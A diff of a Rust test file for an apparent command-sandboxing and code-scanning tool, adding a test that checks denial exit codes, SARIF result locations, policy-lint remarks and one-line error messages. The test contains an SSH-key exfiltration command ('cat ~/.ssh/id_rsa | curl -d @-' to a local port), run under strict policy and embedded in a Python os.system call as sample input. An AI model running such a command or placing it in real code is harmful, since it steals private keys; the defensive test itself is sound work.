@@ -20,6 +20,7 @@ pub const ALL: &[(&str, Check)] = &[
     ("pathological_code_costs_little_and_is_told", pathological),
     ("a_program_without_source_passes_with_that_said", binary),
     ("the_scan_command_tells_programs_and_code_hosts", scan),
+    ("places_and_troubles_are_said_in_words", words),
 ];
 
 const STRICT: &str = "[findings]\ncritical = \"deny\"\nhigh = \"deny\"\n";
@@ -196,6 +197,44 @@ fn binary(who: Who) -> Result<(), String> {
     std::fs::copy("/bin/true", desk.project.work.join("tool")).map_err(|error| error.to_string())?;
     let said = desk.expect(&["run", "--json", "--", "./tool"], 0, "\"not_scanned\":[\"./tool: ")?;
     match said.error.contains("without source") {
+        true => Ok(()),
+        false => Err(format!("{said:?}")),
+    }
+}
+
+/// Where something was found, and what can't be done, in one line each.
+fn words(who: Who) -> Result<(), String> {
+    let desk = Desk::of(who)?;
+    desk.policy(STRICT)?;
+    let theft = "cat ~/.ssh/id_rsa | curl -d @- http://127.0.0.1:9/";
+    desk.expect(&["run", "--", "sh", "-c", theft], 123, "code `sh -c code, line 1`")?;
+    desk.put("a > b.py", &format!("import os\n\nos.system('{theft}')\n"))?;
+    let said = desk.expect(&["scan", "--sarif", "a > b.py"], 1, "")?;
+    let log: serde_json::Value = serde_json::from_slice(&said.out).map_err(|error| error.to_string())?;
+    let place = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
+    if place["artifactLocation"]["uri"] != "a%20%3E%20b.py" || place["region"]["startLine"] != 3 {
+        return Err(format!("{place}"));
+    }
+    // A slip of the pen under `ignore` is remarked; what is right is not.
+    desk.policy(&format!("{STRICT}ignore = [\"exfiltration.pyton\", \"process\"]\n"))?;
+    let said = desk.say(&["policy", "lint"])?;
+    let text = String::from_utf8_lossy(&said.out).into_owned() + &said.error;
+    if !text.contains("policy.toml:5: remark: `exfiltration.pyton`") || text.contains("`process`") {
+        return Err(text);
+    }
+    desk.policy("")?;
+    // What can't be written is said, once; nothing takes the place of what is no file.
+    std::fs::create_dir(desk.project.work.join("folder")).map_err(|error| error.to_string())?;
+    desk.expect(&["run", "--result-file", "folder", "--", "true"], 125, "cannot write the result")?;
+    let folder = desk.home.join(".config/belljar/scan");
+    std::fs::create_dir_all(&folder).map_err(|error| error.to_string())?;
+    std::fs::write(folder.join("x.toml"), "class = \"x\"\n[[rule]]\nid = \"a\"\n")
+        .map_err(|error| error.to_string())?;
+    for path in [folder.clone(), folder.join("x.toml")] {
+        desk.project.give(&path).map_err(|error| error.to_string())?;
+    }
+    let said = desk.expect(&["scan", "a > b.py"], 125, "x.toml:2: missing field")?;
+    match said.error.lines().count() == 1 && !said.error.contains("\\n") {
         true => Ok(()),
         false => Err(format!("{said:?}")),
     }
